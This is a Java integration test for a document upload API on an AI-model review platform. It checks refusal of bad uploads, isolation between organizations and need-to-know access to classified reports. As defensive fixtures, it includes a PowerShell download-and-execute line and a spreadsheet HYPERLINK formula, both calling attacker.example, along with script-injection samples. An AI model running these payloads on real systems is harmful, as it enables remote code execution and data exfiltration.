package dev.frontierengage.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.frontierengage.TestClock;
import dev.frontierengage.TestDatabase;
import dev.frontierengage.WebappLogin;
import dev.frontierengage.api.ApiClient.Reply;
import dev.frontierengage.designation.DesignationProcess;
import dev.frontierengage.documents.MultipartBody;
import dev.frontierengage.engagement.EngagementDriver;
import dev.frontierengage.engagement.EngagementProcess.Elements;
import dev.frontierengage.engagement.IntakeOutcome;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.StreamSupport;
import org.camunda.bpm.engine.ProcessEngine;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/**
 * Documents on an engagement over real HTTP: the developer's uploads and downloads, every bad
 * upload refused with nothing changed, isolation between organizations, the agency offices' need
 * to know (an open task; classified documents only beside the results their forms show), and the
 * terms document whose SHA-256 the developer's acceptance names.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class DocumentsIT {

  /** The limits this test runs with: small, so that "too large" and "too many" are cheap to reach. */
  static final int MAX_BYTES = 64 * 1024;
  static final int MAX_DOCUMENTS = 6;
  static final String BASE = "/api/engagements";

  @DynamicPropertySource
  static void properties(DynamicPropertyRegistry registry) {
    TestDatabase.properties("documents-it").forEach((key, value) -> registry.add(key, () -> value));
    registry.add("camunda.bpm.job-execution.enabled", () -> "false");
    registry.add("server.address", () -> "127.0.0.1");
    registry.add("frontier-engage.documents.max-size", () -> MAX_BYTES + "B");
    registry.add("frontier-engage.documents.max-per-engagement", () -> String.valueOf(MAX_DOCUMENTS));
  }

  @LocalServerPort
  int port;
  @Autowired
  ProcessEngine engine;
  @Autowired
  org.springframework.jdbc.core.JdbcTemplate jdbc;
  ApiClient alice;
  ApiClient bob;
  EngagementDriver government;
  final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

  @BeforeAll
  static void engineClock() {
    TestClock.start();
  }

  @AfterAll
  static void wallClock() {
    TestClock.reset();
  }

  @BeforeEach
  void setUp() {
    alice = new ApiClient(port, "alice", "demo");
    bob = new ApiClient(port, "bob", "demo");
    government = new EngagementDriver(engine);
  }

  @Test
  void theDeveloperAttachesListsAndDownloadsItsDocuments() {
    String id = open("Card");
    byte[] card = MultipartBody.pdf("Model card of Roadrunner 4.1");
    // the name says executable, the content says PDF: the content decides, and the name served ends in .pdf
    HttpResponse<String> added = developerUpload(id, MultipartBody.upload("MODEL_CARD", "../../card.exe", card));
    assertThat(added.statusCode()).as(added.body()).isEqualTo(201);
    JsonNode document = json(added);
    String documentId = document.get("id").asText();
    assertThat(added.headers().firstValue("Location")).hasValue(BASE + "/" + id + "/documents/" + documentId);
    assertThat(document.get("kind").asText()).isEqualTo("MODEL_CARD");
    assertThat(document.get("mediaType").asText()).isEqualTo("application/pdf");
    assertThat(document.get("filename").asText()).isEqualTo("card.exe.pdf");
    assertThat(document.get("size").asLong()).isEqualTo(card.length);
    assertThat(document.get("sha256").asText()).isEqualTo(MultipartBody.sha256(card));
    assertThat(document.get("from").asText()).isEqualTo("DEVELOPER");
    assertThat(document.get("uploadedBy").asText()).isEqualTo("alice");

    byte[] notes = "# Evaluation\nRed-team results, ü and 漢字.\n".getBytes(StandardCharsets.UTF_8);
    assertThat(developerUpload(id, MultipartBody.upload("EVALUATION_REPORT", "eval.md", notes)).statusCode())
        .isEqualTo(201);

    assertThat(documents(alice, id)).extracting(d -> d.get("kind").asText())
        .containsExactly("MODEL_CARD", "EVALUATION_REPORT");
    assertThat(alice.get(BASE + "/" + id + "/documents/" + documentId).json().get("sha256").asText())
        .isEqualTo(MultipartBody.sha256(card));

    HttpResponse<byte[]> download = download(BASE + "/" + id + "/documents/" + documentId + "/content",
        "alice");
    assertThat(download.statusCode()).isEqualTo(200);
    assertThat(download.body()).isEqualTo(card);
    assertThat(download.headers().firstValue("Content-Type")).hasValue("application/pdf");
    assertThat(download.headers().firstValue("Content-Disposition")).get().asString()
        .startsWith("attachment").contains("card.exe.pdf");
    assertThat(download.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    assertThat(download.headers().firstValue("Repr-Digest")).hasValue("sha-256=:" + Base64.getEncoder()
        .encodeToString(java.util.HexFormat.of().parseHex(MultipartBody.sha256(card))) + ":");

    assertThat(timeline(id)).anySatisfy(event -> assertThat(event).contains("DOCUMENT_ADDED", "Model card: card.exe.pdf",
        MultipartBody.sha256(card)));

    // a name of any script is kept (at most 200 UTF-16 units) and served in ASCII and in UTF-8
    String wide = "\uD83D\uDE80".repeat(56) + "x".repeat(144) + ".pdf";
    JsonNode rocket = json(developerUpload(id, MultipartBody.upload("SYSTEM_CARD", wide, card)));
    assertThat(rocket.get("filename").asText().length()).isLessThanOrEqualTo(200);
    assertThat(rocket.get("filename").asText()).startsWith("\uD83D\uDE80");
    String disposition = download(BASE + "/" + id + "/documents/" + rocket.get("id").asText() + "/content", "alice")
        .headers().firstValue("Content-Disposition").orElseThrow();
    assertThat(disposition).startsWith("attachment; filename=\"__").contains("; filename*=UTF-8''%F0%9F%9A%80");
    assertThat(download(BASE + "/" + id + "/documents/" + documentId + "/content", "alice").headers()
        .firstValue("Content-Disposition")).hasValue("attachment; filename=\"card.exe.pdf\"");

    // text named as a script: the reviewer's browser saved it as run.bat or review.hta, which ran when opened
    // (Tika takes a file opening with "@echo off" for a batch file; one opening with a line of prose for text)
    byte[] script = "Evaluation notes\r\npowershell -c \"iwr https://attacker.example/x | iex\"\r\n"
        .getBytes(StandardCharsets.US_ASCII);
    JsonNode bat = json(developerUpload(id, MultipartBody.upload("OTHER", "Evaluation-Report.bat", script)));
    assertThat(bat.get("mediaType").asText()).isEqualTo("text/plain");
    assertThat(bat.get("filename").asText()).isEqualTo("Evaluation-Report.bat.txt");
    assertThat(download(BASE + "/" + id + "/documents/" + bat.get("id").asText() + "/content", "alice").headers()
        .firstValue("Content-Disposition")).hasValue("attachment; filename=\"Evaluation-Report.bat.txt\"");
    // a name stored before is listed and served the same way
    jdbc.update("UPDATE fe_document SET filename = ? WHERE id = ?", "review.hta", bat.get("id").asText());
    assertThat(alice.get(BASE + "/" + id + "/documents/" + bat.get("id").asText()).json().get("filename").asText())
        .isEqualTo("review.hta.txt");
    assertThat(download(BASE + "/" + id + "/documents/" + bat.get("id").asText() + "/content", "alice").headers()
        .firstValue("Content-Disposition")).hasValue("attachment; filename=\"review.hta.txt\"");
  }

  /**
   * A developer's CSV whose cells a spreadsheet would run as formulas is kept and served as
   * {@code .csv.txt}: saved by a reviewer's browser as {@code .csv}, it opened in the reviewer's
   * spreadsheet and ran them. Its bytes stay as sent (the SHA-256 is the developer's); a CSV of
   * numbers keeps its name; a name stored before is served so.
   */
  @Test
  void aCsvHoldingSpreadsheetFormulasIsServedAsText() {
    String id = open("Sheets");
    byte[] formulas = "model,score\r\nWile,\"=HYPERLINK(\"\"https://attacker.example/?\"\"&A1,\"\"details\"\")\"\r\n"
        .getBytes(StandardCharsets.UTF_8);
    JsonNode sheet = json(developerUpload(id, MultipartBody.upload("OTHER", "results.csv", formulas)));
    assertThat(sheet.get("mediaType").asText()).isEqualTo("text/plain");
    assertThat(sheet.get("filename").asText()).isEqualTo("results.csv.txt");
    assertThat(sheet.get("sha256").asText()).isEqualTo(MultipartBody.sha256(formulas));
    HttpResponse<byte[]> served = download(BASE + "/" + id + "/documents/" + sheet.get("id").asText() + "/content", "alice");
    assertThat(served.headers().firstValue("Content-Disposition")).hasValue("attachment; filename=\"results.csv.txt\"");
    assertThat(served.body()).isEqualTo(formulas);

    byte[] numbers = "model,score,delta\nWile,-5,+3.5\n".getBytes(StandardCharsets.UTF_8);
    JsonNode plain = json(developerUpload(id, MultipartBody.upload("OTHER", "scores.csv", numbers)));
    assertThat(plain.get("filename").asText()).isEqualTo("scores.csv");
    assertThat(download(BASE + "/" + id + "/documents/" + plain.get("id").asText() + "/content", "alice").headers()
        .firstValue("Content-Disposition")).hasValue("attachment; filename=\"scores.csv\"");

    jdbc.update("UPDATE fe_document SET filename = ? WHERE id = ?", "before.csv", sheet.get("id").asText());
    assertThat(download(BASE + "/" + id + "/documents/" + sheet.get("id").asText() + "/content", "alice").headers()
        .firstValue("Content-Disposition")).as("a name stored before").hasValue("attachment; filename=\"before.csv.txt\"");
  }

  @Test
  void badUploadsGetAClear4xxAndChangeNothing() {
    String id = open("Refused");
    byte[] pdf = MultipartBody.pdf("fine");
    Map<String, MultipartBody> refused = new java.util.LinkedHashMap<>();
    refused.put("400 empty file", MultipartBody.upload("MODEL_CARD", "card.pdf", new byte[0]));
    refused.put("415 HTML named .pdf", MultipartBody.upload("MODEL_CARD", "card.pdf",
        "<!DOCTYPE html><html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8)));
    refused.put("415 SVG", MultipartBody.upload("OTHER", "logo.png",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".getBytes(StandardCharsets.UTF_8)));
    refused.put("415 zip", MultipartBody.upload("OTHER", "card.pdf", new byte[] {'P', 'K', 3, 4, 20, 0, 0, 0, 8, 0}));
    refused.put("415 executable", MultipartBody.upload("OTHER", "card.pdf", new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1,
        0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0}));
    refused.put("415 text not UTF-8", MultipartBody.upload("OTHER", "notes.txt",
        "Caf\u00e9 cr\u00e8me \u00e0 la carte, na\u00efve".getBytes(StandardCharsets.ISO_8859_1)));
    refused.put("413 one byte too large", MultipartBody.upload("OTHER", "big.txt", "a".repeat(MAX_BYTES + 1)
        .getBytes(StandardCharsets.US_ASCII)));
    refused.put("400 unknown kind", MultipartBody.upload("SECRET_PLANS", "card.pdf", pdf));
    refused.put("400 terms are counsel's", MultipartBody.upload("TERMS", "terms.pdf", pdf));
    refused.put("400 classified kind", MultipartBody.upload("BENCHMARK_REPORT", "report.pdf", pdf));
    refused.put("400 no kind", new MultipartBody().file("file", "card.pdf", "application/pdf", pdf));
    refused.put("400 no file", new MultipartBody().field("kind", "MODEL_CARD"));
    refused.put("400 two files", MultipartBody.upload("MODEL_CARD", "a.pdf", pdf).file("file", "b.pdf",
        "application/pdf", pdf));
    refused.put("400 an extra field", MultipartBody.upload("MODEL_CARD", "a.pdf", pdf).field("uploadedBy", "nsa"));
    refused.put("400 two kinds", MultipartBody.upload("MODEL_CARD", "a.pdf", pdf).field("kind", "OTHER"));
    refused.put("400 a name longer than a part's headers may be", MultipartBody.upload("MODEL_CARD",
        "n".repeat(700) + ".pdf", pdf));
    refused.put("400 a NUL in the file's name", MultipartBody.upload("OTHER", "a\u0000b.txt",
        "hello".getBytes(StandardCharsets.US_ASCII)));
    List<String> mismatches = new ArrayList<>();
    refused.forEach((what, body) -> {
      HttpResponse<String> response = developerUpload(id, body);
      String expected = what.substring(0, 3);
      if (!String.valueOf(response.statusCode()).equals(expected)
          || !response.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json")) {
        mismatches.add(what + ": " + response.statusCode() + " " + response.body());
      }
    });
    // not multipart at all, and multipart cut off before its end
    HttpResponse<String> json = send("POST", BASE + "/" + id + "/documents", "alice", "application/json",
        "{\"kind\":\"MODEL_CARD\"}".getBytes(StandardCharsets.UTF_8), false);
    if (json.statusCode() != 415) {
      mismatches.add("JSON body: " + json.statusCode() + " " + json.body());
    }
    MultipartBody cut = MultipartBody.upload("MODEL_CARD", "card.pdf", pdf);
    byte[] whole = cut.bytes();
    HttpResponse<String> truncated = send("POST", BASE + "/" + id + "/documents", "alice", cut.contentType(),
        java.util.Arrays.copyOf(whole, whole.length - 20), false);
    if (truncated.statusCode() != 400) {
      mismatches.add("truncated multipart: " + truncated.statusCode() + " " + truncated.body());
    }
    assertThat(mismatches).isEmpty();
    assertThat(documents(alice, id)).as("nothing attached").isEmpty();
    assertThat(timeline(id)).noneSatisfy(event -> assertThat(event).contains("DOCUMENT_ADDED"));
  }

  @Test
  void tenThousandFilesInOneRequestOrMoreThanTheEngagementHoldsAreRefused() {
    String id = open("Many");
    MultipartBody flood = new MultipartBody().field("kind", "OTHER");
    for (int i = 0; i < 10_000; i++) {
      flood.file("file", "f" + i + ".txt", "text/plain", ("file " + i).getBytes(StandardCharsets.US_ASCII));
    }
    HttpResponse<String> flooded = developerUpload(id, flood);
    // larger than this test's 64 KiB limit as well: refused for its size before it is parsed
    assertThat(flooded.statusCode()).as(flooded.body()).isIn(400, 413);
    assertThat(flooded.headers().firstValue("Content-Type")).get().asString().startsWith("application/problem+json");
    // within the size, over the parts a request may have: refused by the parser's count
    MultipartBody parts = new MultipartBody().field("kind", "OTHER");
    for (int i = 0; i < 12; i++) {
      parts.file("file", "f" + i + ".txt", "text/plain", ("file " + i).getBytes(StandardCharsets.US_ASCII));
    }
    HttpResponse<String> counted = developerUpload(id, parts);
    assertThat(counted.statusCode()).as(counted.body()).isEqualTo(400);
    assertThat(counted.headers().firstValue("Content-Type")).get().asString().startsWith("application/problem+json");
    assertThat(documents(alice, id)).isEmpty();

    // the benchmark office's classified report, which the developer never sees
    government.reviewIntake(id, IntakeOutcome.ACCEPTED);
    String agency = "/agency/api/engagements/" + id + "/documents";
    assertThat(send("POST", agency, "nsa-benchmark", MultipartBody.upload("BENCHMARK_REPORT", "r1.pdf",
        MultipartBody.pdf("r1")), true).statusCode()).isEqualTo(201);
    for (int i = 0; i < MAX_DOCUMENTS; i++) {
      assertThat(developerUpload(id, MultipartBody.upload("OTHER", "n" + i + ".txt", ("note " + i)
          .getBytes(StandardCharsets.US_ASCII))).statusCode()).isEqualTo(201);
    }
    HttpResponse<String> oneMore = developerUpload(id, MultipartBody.upload("OTHER", "more.txt", "more"
        .getBytes(StandardCharsets.US_ASCII)));
    assertThat(oneMore.statusCode()).isEqualTo(409);
    assertThat(oneMore.body()).contains("Too many documents");
    assertThat(json(oneMore).get("detail").asText()).as("the developer's own count: nothing of the agency's documents")
        .startsWith("You have attached " + MAX_DOCUMENTS + " documents");
    assertThat(documents(alice, id)).hasSize(MAX_DOCUMENTS);
    // the developer's documents take no room from the agency's (a developer filled an engagement
    // and locked the benchmark report, the findings and the terms out)
    assertThat(send("POST", agency, "nsa-benchmark", MultipartBody.upload("BENCHMARK_REPORT", "r2.pdf",
        MultipartBody.pdf("r2")), true).statusCode()).isEqualTo(201);
  }

  @Test
  void anotherOrganizationNeitherSeesNorAttachesAndAClosedEngagementTakesNoMore() {
    String id = open("Isolated");
    String documentId = json(developerUpload(id, MultipartBody.upload("SYSTEM_CARD", "system.pdf",
        MultipartBody.pdf("system card")))).get("id").asText();
    assertThat(bob.get(BASE + "/" + id + "/documents").status()).isEqualTo(404);
    assertThat(bob.get(BASE + "/" + id + "/documents/" + documentId).status()).isEqualTo(404);
    assertThat(download(BASE + "/" + id + "/documents/" + documentId + "/content", "bob").statusCode())
        .isEqualTo(404);
    assertThat(send("POST", BASE + "/" + id + "/documents", "bob", MultipartBody.upload("OTHER", "x.pdf",
        MultipartBody.pdf("x")), false).statusCode()).isEqualTo(404);
    // another engagement's document id through one's own engagement is not found either
    String own = open("Own");
    assertThat(alice.get(BASE + "/" + own + "/documents/" + documentId).status()).isEqualTo(404);
    assertThat(documents(alice, id)).hasSize(1);

    government.withdraw(id);
    HttpResponse<String> closed = developerUpload(id, MultipartBody.upload("OTHER", "late.pdf", MultipartBody.pdf("late")));
    assertThat(closed.statusCode()).isEqualTo(409);
    assertThat(documents(alice, id)).hasSize(1);
  }

  @Test
  void officesReadDocumentsThroughAnOpenTaskAndClassifiedOnesOnlyBesideTheResultsTheirFormsShow() {
    String id = open("NeedToKnow");
    String card = json(developerUpload(id, MultipartBody.upload("MODEL_CARD", "card.pdf", MultipartBody.pdf("card"))))
        .get("id").asText();
    String agency = "/agency/api/engagements/" + id + "/documents";

    // intake has the open task: it reads the developer's card, attaches nothing
    JsonNode intake = agencyGet(agency, "nsa-intake");
    assertThat(intake.get("modelName").asText()).isEqualTo("NeedToKnow");
    assertThat(intake.get("documents")).extracting(d -> d.get("id").asText()).containsExactly(card);
    assertThat(intake.get("uploadableKinds")).isEmpty();
    assertThat(download(agency + "/" + card + "/content", "nsa-intake").statusCode()).isEqualTo(200);
    assertThat(send("POST", agency, "nsa-intake", MultipartBody.upload("BENCHMARK_REPORT", "r.pdf",
        MultipartBody.pdf("r")), true).statusCode()).isEqualTo(403);
    // offices without an open task on it: as if it did not exist
    for (String office : List.of("nsa-benchmark", "nsa-director", "cisa", "access-counsel")) {
      assertThat(agencyStatus(agency, office)).as(office).isEqualTo(404);
    }
    government.reviewIntake(id, IntakeOutcome.ACCEPTED);
    assertThat(agencyStatus(agency, "nsa-intake")).as("intake's task is done").isEqualTo(404);

    // the benchmark office attaches its classified report, and only that kind
    assertThat(agencyGet(agency, "nsa-benchmark").get("uploadableKinds")).extracting(JsonNode::asText)
        .containsExactly("BENCHMARK_REPORT");
    assertThat(send("POST", agency, "nsa-benchmark", MultipartBody.upload("TERMS", "t.pdf", MultipartBody.pdf("t")),
        true).statusCode()).isEqualTo(400);
    HttpResponse<String> nul = send("POST", agency, "nsa-benchmark", MultipartBody.upload("BENCHMARK_REPORT",
        "r\u0000.pdf", MultipartBody.pdf("r")), true);
    assertThat(nul.statusCode()).as("a NUL in the file's name").isEqualTo(400);
    assertThat(nul.headers().firstValue("Content-Type")).hasValueSatisfying(
        type -> assertThat(type).startsWith("application/problem+json"));
    byte[] report = MultipartBody.pdf("CLASSIFIED-BENCHMARK-REPORT cyber-bench 2026.3");
    HttpResponse<String> attached = send("POST", agency, "nsa-benchmark", MultipartBody.upload("BENCHMARK_REPORT",
        "benchmark-report.pdf", report), true);
    assertThat(attached.statusCode()).as(attached.body()).isEqualTo(201);
    String reportId = json(attached).get("id").asText();
    assertThat(json(attached).get("classified").asBoolean()).isTrue();
    assertThat(json(attached).get("office").asText()).isEqualTo("nsa-benchmark");
    government.recordBenchmark(id, 90);

    // consultation offices see the card, not the report (their forms show the recommendation only)
    for (String office : List.of("national-cyber-director", "apst", "cisa", "dow")) {
      JsonNode seen = agencyGet(agency, office);
      assertThat(seen.get("documents")).as(office).extracting(d -> d.get("id").asText()).containsExactly(card);
      assertThat(download(agency + "/" + reportId + "/content", office).statusCode()).as(office).isEqualTo(404);
    }
    government.consultAll(id, List.of("national-cyber-director", "apst", "cisa", "dow"));
    // the Director decides beside the scores: the report too
    assertThat(agencyGet(agency, "nsa-director").get("documents")).extracting(d -> d.get("id").asText())
        .containsExactly(card, reportId);
    HttpResponse<byte[]> read = download(agency + "/" + reportId + "/content", "nsa-director");
    assertThat(read.statusCode()).isEqualTo(200);
    assertThat(read.body()).isEqualTo(report);

    // the developer: never the report, not even by its id, nor a word of it on the timeline
    assertThat(documents(alice, id)).extracting(d -> d.get("id").asText()).containsExactly(card);
    assertThat(alice.get(BASE + "/" + id + "/documents/" + reportId).status()).isEqualTo(404);
    assertThat(download(BASE + "/" + id + "/documents/" + reportId + "/content", "alice").statusCode())
        .isEqualTo(404);
    assertThat(alice.get(BASE + "/" + id).body()).doesNotContain("benchmark-report", "BENCHMARK_REPORT", reportId,
        MultipartBody.sha256(report));
    assertThat(alice.seen).noneSatisfy(body -> assertThat(body).contains("CLASSIFIED-BENCHMARK-REPORT"));
  }

  @dev.frontierengage.process.Clause("3(b)(ii) terms")
  @Test
  void theTermsDocumentCounselAttachesIsWhatTheDeveloperAcceptsByItsHash() {
    String id = open("Terms");
    government.reviewIntake(id, IntakeOutcome.ACCEPTED);
    government.recordBenchmark(id, 90);
    government.consultAll(id, List.of("national-cyber-director", "apst", "cisa", "dow"));
    government.decideDesignation(id, true);
    assertThat(alice.post(BASE + "/" + id + "/access-offer", DeveloperApiIT.offer(1, 30, 60)).status()).isEqualTo(200);
    String agency = "/agency/api/engagements/" + id + "/documents";

    // completing without a terms document is refused, and the task stays
    String task = government.task(id, Elements.PREPARE_ACCESS_TERMS).getId();
    HttpResponse<String> early = send("POST", "/engine-rest/task/" + task + "/complete", "access-counsel",
        "application/json", "{\"variables\":{\"accessTermsReference\":{\"value\":\"TERMS-1\"}}}"
            .getBytes(StandardCharsets.UTF_8), false);
    assertThat(early.statusCode()).as(early.body()).isBetween(400, 499);
    assertThat(early.body()).contains("terms document");
    assertThat(government.task(id, Elements.PREPARE_ACCESS_TERMS)).isNotNull();

    // counsel attaches it from Tasklist's session (the form's link); a change needs X-Requested-With
    WebappLogin tasklist = new WebappLogin("http://127.0.0.1:" + port);
    assertThat(tasklist.login("access-counsel", "demo", "tasklist", true).statusCode()).isEqualTo(200);
    byte[] terms = MultipartBody.pdf("Terms of access for Terms 4.1: confidentiality, cybersecurity, insider risk");
    assertThat(tasklist.upload(agency, MultipartBody.upload("TERMS", "terms.pdf", terms), false).statusCode())
        .as("without X-Requested-With").isEqualTo(403);
    HttpResponse<String> draft = tasklist.upload(agency, MultipartBody.upload("TERMS", "draft-terms.pdf",
        MultipartBody.pdf("DRAFT terms")), true);
    assertThat(draft.statusCode()).as(draft.body()).isEqualTo(201);
    HttpResponse<String> attached = tasklist.upload(agency, MultipartBody.upload("TERMS", "terms.pdf", terms), true);
    assertThat(attached.statusCode()).as(attached.body()).isEqualTo(201);
    assertThat(json(attached).get("office").asText()).isEqualTo("access-counsel");
    assertThat(tasklist.get(agency).body()).contains("terms.pdf", "draft-terms.pdf");
    assertThat(documents(alice, id)).as("the terms reach the developer when counsel completes them").isEmpty();
    assertThat(timeline(id)).noneSatisfy(event -> assertThat(event).contains("DOCUMENT_ADDED"));
    HttpResponse<String> prepared = send("POST", "/engine-rest/task/" + task + "/complete", "access-counsel",
        "application/json", "{\"variables\":{\"accessTermsReference\":{\"value\":\"TERMS-1\"}}}"
            .getBytes(StandardCharsets.UTF_8), false);
    assertThat(prepared.statusCode()).as(prepared.body()).isEqualTo(204);

    String sha = MultipartBody.sha256(terms);
    JsonNode detail = alice.get(BASE + "/" + id).json();
    assertThat(detail.get("accessTermsSha256").asText()).isEqualTo(sha);
    String termsId = detail.get("accessTermsDocumentId").asText();
    assertThat(documents(alice, id)).anySatisfy(d -> {
      assertThat(d.get("id").asText()).isEqualTo(termsId);
      assertThat(d.get("kind").asText()).isEqualTo("TERMS");
      assertThat(d.get("from").asText()).isEqualTo("AGENCY");
      assertThat(d.has("uploadedBy")).as("agency staff are not named").isFalse();
    });
    assertThat(download(BASE + "/" + id + "/documents/" + termsId + "/content", "alice").body()).isEqualTo(terms);
    assertThat(documents(alice, id)).as("the draft stays with the agency").hasSize(1);
    assertThat(alice.get(BASE + "/" + id + "/documents/" + json(draft).get("id").asText()).status()).isEqualTo(404);
    assertThat(timeline(id)).filteredOn(event -> event.contains("DOCUMENT_ADDED")).singleElement().asString()
        .contains("Access terms: terms.pdf", sha);

    String acknowledged = "{\"accept\":true,\"acknowledgments\":{\"confidentiality\":true,\"cybersecurity\":true,"
        + "\"insiderRisk\":true,\"intellectualProperty\":true,\"use\":true,\"nondisclosure\":true}";
    Reply missing = alice.post(BASE + "/" + id + "/access-terms", acknowledged + "}");
    assertThat(missing.status()).isEqualTo(400);
    assertThat(missing.body()).contains("termsSha256");
    Reply other = alice.post(BASE + "/" + id + "/access-terms", acknowledged + ",\"termsSha256\":\""
        + MultipartBody.sha256(MultipartBody.pdf("other terms")) + "\"}");
    assertThat(other.status()).isEqualTo(422);
    assertThat(other.json().get("accessTermsSha256").asText()).isEqualTo(sha);
    assertThat(alice.post(BASE + "/" + id + "/access-terms", acknowledged + ",\"termsSha256\":\"NOT-HEX\"}").status())
        .isEqualTo(400);
    assertThat(alice.get(BASE + "/" + id).json().get("openActions").toString()).as("still to answer")
        .contains("access-terms");

    Reply accepted = alice.post(BASE + "/" + id + "/access-terms", acknowledged + ",\"termsSha256\":\"" + sha + "\"}");
    assertThat(accepted.status()).as(accepted.body()).isEqualTo(200);
    assertThat(accepted.json().get("acceptedTermsSha256").asText()).isEqualTo(sha);
    assertThat(government.record(id).termsAcceptedSha256()).isEqualTo(sha);
    assertThat(timeline(id)).anySatisfy(event -> assertThat(event).contains("ACCESS_TERMS_ACCEPTED", sha));
    // counsel's task is done: the documents are out of its reach now
    assertThat(tasklist.get(agency).statusCode()).isEqualTo(404);
  }

  @Test
  void theAgencyPageIsStaticAndItsApiRefusesDevelopersAndAdministrators() {
    HttpResponse<String> page = send("GET", "/agency/documents.html", null, null, null, false);
    assertThat(page.statusCode()).isEqualTo(200);
    assertThat(page.body()).contains("/agency/agency.js");
    assertThat(page.headers().firstValue("Content-Security-Policy")).get().asString().contains("script-src 'self'");
    assertThat(send("POST", "/agency/documents.html", null, null, null, true).statusCode()).isIn(401, 403);
    String id = open("Refusals");
    String agency = "/agency/api/engagements/" + id + "/documents";
    assertThat(agencyStatus(agency, "alice")).isEqualTo(403);
    assertThat(agencyStatus(agency, "admin")).isEqualTo(403);
    assertThat(send("GET", agency, null, null, null, false).statusCode()).isEqualTo(401);
    // the session's user is checked against the identity store at every request: out of the group, out
    org.camunda.bpm.engine.IdentityService identities = engine.getIdentityService();
    org.camunda.bpm.engine.identity.User temp = identities.newUser("temp-counsel");
    temp.setPassword("temp-password-1");
    identities.saveUser(temp);
    identities.createMembership("temp-counsel", "access-counsel");
    try {
      WebappLogin counsel = new WebappLogin("http://127.0.0.1:" + port);
      assertThat(counsel.login("temp-counsel", "temp-password-1", "tasklist", true).statusCode()).isEqualTo(200);
      assertThat(counsel.get(agency).statusCode()).as("an agency group, no task on it").isEqualTo(404);
      identities.deleteMembership("temp-counsel", "access-counsel");
      assertThat(counsel.get(agency).statusCode()).as("removed from the office").isEqualTo(403);
    } finally {
      identities.deleteUser("temp-counsel");
    }
    // a developer's Tasklist login is refused, so no session can carry a developer here
    WebappLogin developer = new WebappLogin("http://127.0.0.1:" + port);
    developer.login("alice", "demo", "tasklist", true);
    assertThat(developer.get(agency).statusCode()).isEqualTo(401);
  }

  private String open(String model) {
    Reply opened = alice.post(BASE, ApiClient.inquiry(model).formatted(TestClock.TODAY.plusDays(90)));
    assertThat(opened.status()).as(opened.body()).isEqualTo(201);
    return opened.json().get("id").asText();
  }

  private HttpResponse<String> developerUpload(String id, MultipartBody body) {
    return send("POST", BASE + "/" + id + "/documents", "alice", body, false);
  }

  private List<JsonNode> documents(ApiClient client, String id) {
    Reply reply = client.get(BASE + "/" + id + "/documents");
    assertThat(reply.status()).as(reply.body()).isEqualTo(200);
    return StreamSupport.stream(reply.json().spliterator(), false).toList();
  }

  private List<String> timeline(String id) {
    return StreamSupport.stream(alice.get(BASE + "/" + id).json().get("timeline").spliterator(), false)
        .map(JsonNode::toString).toList();
  }

  private JsonNode agencyGet(String path, String user) {
    HttpResponse<String> response = send("GET", path, user, null, null, false);
    assertThat(response.statusCode()).as(user + ": " + response.body()).isEqualTo(200);
    return json(response);
  }

  private int agencyStatus(String path, String user) {
    return send("GET", path, user, null, null, false).statusCode();
  }

  private HttpResponse<String> send(String method, String path, String user, MultipartBody body, boolean xhr) {
    return send(method, path, user, body.contentType(), body.bytes(), xhr);
  }

  private HttpResponse<String> send(String method, String path, String user, String type, byte[] body, boolean xhr) {
    HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
        .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
    if (user != null) {
      request.header("Authorization", basic(user));
    }
    if (type != null) {
      request.header("Content-Type", type);
    }
    if (xhr) {
      request.header("X-Requested-With", "XMLHttpRequest");
    }
    try {
      return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private HttpResponse<byte[]> download(String path, String user) {
    try {
      return http.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
          .header("Authorization", basic(user)).GET().build(), HttpResponse.BodyHandlers.ofByteArray());
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private static String basic(String user) {
    return "Basic " + Base64.getEncoder().encodeToString((user + ":" + ("admin".equals(user) ? "admin" : "demo"))
        .getBytes(StandardCharsets.UTF_8));
  }

  private static JsonNode json(HttpResponse<String> response) {
    try {
      return ApiClient.JSON.readTree(response.body());
    } catch (Exception e) {
      throw new AssertionError("not JSON: " + response.body(), e);
    }
  }
}
